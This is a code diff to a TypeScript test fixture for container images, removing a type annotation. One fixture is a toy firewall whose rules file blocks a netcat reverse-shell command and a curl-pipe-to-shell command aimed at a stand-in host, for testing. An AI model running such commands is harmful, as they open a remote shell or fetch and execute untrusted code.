@@ -1,6 +1,6 @@
 import { PATH } from '../../demo/rootfs.ts';
 import { hex, xor } from '../../testkit/coded.ts';
-import { type Files, type ImageCase, image, starts } from './image-case.ts';
+import { type ImageCase, image, starts } from './image-case.ts';
 
 const NGINX = { Cmd: ['nginx', '-g', 'daemon off;'] };
 
@@ -77,7 +77,7 @@ const STEPS = Array.from(
 ).join('');
 
 /** What a firewall refuses looks like what it refuses. */
-const WALL: Files = {
+const WALL = {
   'app/wall.py':
     'import argparse\nimport re\nimport subprocess\np = argparse.ArgumentParser()\np.add_argument("--rules")\nfile = p.parse_args().rules\nrules = [re.compile(line.strip()) for line in open(file)]\nsubprocess.Popen(["nginx", "-c", "/etc/wall/nginx.conf"])\n',
   'etc/wall.rules': '# what no request may hold\nnc -e /bin/sh\ncurl http://192.0.2.7/x | sh\n',
@@ -85,7 +85,7 @@ const WALL: Files = {
 const WALL_START = { Entrypoint: ['python3', '/app/wall.py', '--rules', '/etc/wall.rules'] };
 
 /** As programs are put together: two modules import a third one. */
-const PARTS: Files = {
+const PARTS = {
   'app/main.py': 'import jobs\nimport tools\njobs.go()\n',
   'app/jobs.py': 'import tools\ndef go():\n    tools.stamp()\n',
   'app/tools.py': 'import os\ndef stamp():\n    os.system("date > /run/stamp")\n',
